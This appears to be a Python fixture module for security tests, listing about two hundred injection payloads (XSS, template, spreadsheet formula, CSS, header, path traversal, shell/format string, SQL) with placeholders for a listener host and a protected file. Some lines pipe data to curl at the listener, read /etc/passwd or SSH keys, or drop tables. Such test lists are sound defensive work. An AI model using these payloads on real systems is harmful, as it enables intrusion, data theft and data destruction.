"""Two hundred texts that somebody may type so that something runs, is read or is reached.

`zq()` is what a script calls; LEAK is the address of a listener, SECRET the path of a file that nobody may
read, and 191*7919 a product that only something that computes would write out.
"""

# ruff: noqa: E501

import re

PLACES = re.compile(r"LEAK|SECRET(?!_KEY)|SUM(?!\()")
RUNS, PRODUCT, HEADER = "zq()", "1512529", "zq-header"
SUM = "191*7919"

XSS = [
    "<script>zq()</script>", "<SCRIPT SRC=//LEAK></SCRIPT>", "\"><script>zq()</script>", "'><script>zq()</script>",
    "</title><script>zq()</script>", "</textarea><script>zq()</script>", "</style><script>zq()</script>",
    "</script><script>zq()</script>", "</option></select><svg onload=zq()>", "</td></tr></table><img src=x onerror=zq()>",
    "<img src=x onerror=zq()>", "\"><img src=x onerror=zq()>", "' onerror='zq()' src='x", "\" onfocus=\"zq()\" autofocus=\"",
    "' onfocus='zq()' autofocus='", "` onfocus=`zq()` autofocus=`", "onfocus=zq() autofocus", "<svg onload=zq()>",
    "<svg/onload=zq()//", "<svg><script>zq()</script></svg>", "<svg><animate onbegin=zq() attributeName=x dur=1s>",
    "<svg><set onbegin=zq() attributeName=x>", "<svg><a xlink:href=\"javascript:zq()\"><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror=zq()>", "<math href=\"javascript:zq()\">x</math>", "<body onload=zq()>",
    "<iframe src=\"javascript:zq()\">", "<iframe srcdoc=\"<script>parent.zq()</script>\">", "<object data=\"javascript:zq()\">",
    "<embed src=\"javascript:zq()\">", "<a href=\"javascript:zq()\">x</a>", "<a href=\"JaVaScRiPt:zq()\">x</a>",
    "<a href=\"java\tscript:zq()\">x</a>", "javascript:zq()", "data:text/html,<script>zq()</script>",
    "<form action=\"javascript:zq()\"><button>x</button>", "<input autofocus onfocus=zq()>", "<button formaction=javascript:zq()>",
    "<details open ontoggle=zq()>", "<video src=x onerror=zq()>", "<audio src=x onerror=zq()>", "<marquee onstart=zq()>",
    "<style>@import '//LEAK'</style>", "<link rel=stylesheet href=//LEAK>", "<base href=//LEAK>", "<meta http-equiv=refresh content=\"0;//LEAK\">",
    "<img src=//LEAK>", "<img srcset=//LEAK>", "<template><script>zq()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=zq()>\">",
    "<!--<img src=\"--><img src=x onerror=zq()>\">", "<![CDATA[<script>zq()</script>]]>", "<x onclick=zq()>x</x>", "<p style=\"x:expression(zq())\">",
    "&lt;script&gt;zq()&lt;/script&gt;", "&#60;script&#62;zq()&#60;/script&#62;", "\\u003cscript\\u003ezq()\\u003c/script\\u003e",
    "%3Cscript%3Ezq()%3C/script%3E", "＜script＞zq()＜/script＞", "\ufeff<script>zq()</script>", "<scr<script>ipt>zq()</scr</script>ipt>",
    "<img src=x:x onerror\x0b=zq()>", "<div hx-get=\"//LEAK\" hx-trigger=load>", "<div hx-on:load=\"zq()\">", "<div data-hx-get=//LEAK data-hx-trigger=load>",
    "<b hx-vals='js:{a:zq()}' hx-post=/ hx-trigger=load>", "'-zq()-'", "\";zq();//", "';zq();//", "${zq()}",
]  # fmt: skip
TEMPLATES = [
    "{{ SUM }}", "{{SUM}}", "{% debug %}", "{% load static %}", "{% include 'SECRET' %}", "{% now 'Y' %}", "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}", "{{ request.META }}", "{{''.__class__.__mro__}}", "{{ config }}", "${SUM}", "#{SUM}", "<%= SUM %>",
    "{{7|add:7}}", "{#", "#}", "{% csrf_token %}", "{% endblock %}", "{{ block.super }}", "{% verbatim %}", "*{SUM}", "@(SUM)", "{{=SUM}}",
    "{{constructor.constructor('zq()')()}}",
    "#(SUM)", "#eval(\"SUM\")", "#read(\"SECRET\")", "#image(\"SECRET\")", "#include \"SECRET\"", "#import \"SECRET\": *", "#sys.version",
    "#link(\"http://LEAK\")[x]", "#box(fill: red)[x]", "#set page(width: 1pt)", "#show: it => []", "$ SUM $", "*b* _i_ `c` <l> @r",
    "#raw(read(\"/etc/passwd\"))", "#panic(\"zq\")", "#while true {}", "] #(SUM) [", "\\#(SUM)",
]  # fmt: skip
FORMULAS = [
    "=SUM", "=1+1", "=HYPERLINK(\"http://LEAK\",\"x\")", "=WEBSERVICE(\"http://LEAK\")", "=cmd|' /C calc'!A0", "+SUM", "-SUM", "@SUM(1,1)",
    "\t=SUM", "\r=SUM", "\n=SUM", "'=SUM", "\"=SUM", "=\"a\"&SUM", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@A1", "＝SUM", "＋SUM", "－SUM", "＠SUM",
    "=IMPORTXML(\"http://LEAK\",\"//a\")", ";=SUM", ",=SUM", "x\t=SUM", "=DDE(\"a\";\"b\";\"c\")", "{=SUM}",
]  # fmt: skip
CSS = [
    "</style><style>*{background:url(//LEAK)}", "red;background:url(//LEAK)", "expression(zq())", "x{}*{color:red}", "@import url(//LEAK);",
    "behavior:url(//LEAK)", "-moz-binding:url(//LEAK)", "\\65xpression(zq())",
]  # fmt: skip
HEADERS = [
    "x\r\nSet-Cookie: zq-header=1", "x\nSet-Cookie: zq-header=1", "x%0d%0aSet-Cookie: zq-header=1", "x\r\n\r\n<script>zq()</script>",
    "x\u2028Set-Cookie: zq-header=1", "x嘊嘍Set-Cookie: zq-header=1", "\"; filename=\"zq-header.html", "x\x00.html",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "SECRET", "file://SECRET", "..\\..\\secret", "%2e%2e%2fetc%2fpasswd", "/etc/passwd\x00.png", "//LEAK/x",
    "http://LEAK/", "php://filter/resource=SECRET", "....//....//etc/passwd", "CON", "~root/.ssh/id_rsa",
]  # fmt: skip
FORMATS = [
    "%s%s%s%n", "%(SECRET_KEY)s", "{0}", "{0.__class__}", "{self}", "{settings.SECRET_KEY}", "%x%x%x", "$SECRET_KEY", "{!r}", "%%s", "{x:>99999}",
    "$(cat SECRET)", "`cat SECRET`", "; cat SECRET", "| curl http://LEAK", "&& curl http://LEAK",
]  # fmt: skip
SQL = [
    "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE cases_case; --", "1; DELETE FROM audit_event", "' UNION SELECT password FROM accounts_user --",
    "') OR ('1'='1", "' AND SLEEP(9) --", "'; SELECT pg_sleep(9) --", "\\'; --", "%' OR '%'='", "_%", "x' || (SELECT sqlite_version()) || 'x",
    "0x27", "' || randomblob(999999999) --", "{\"$ne\": null}",
]  # fmt: skip
KINDS = {"XSS": XSS, "template": TEMPLATES, "formula": FORMULAS, "CSS": CSS, "header": HEADERS, "path": PATHS,
         "format": FORMATS, "SQL": SQL}  # fmt: skip


def payloads(*, leak: str, secret: str) -> list[str]:
    """Return every text with the addresses filled in."""
    words = {"LEAK": leak, "SECRET": secret, "SUM": SUM}
    return [PLACES.sub(lambda found: words[found[0]], text) for texts in KINDS.values() for text in texts]
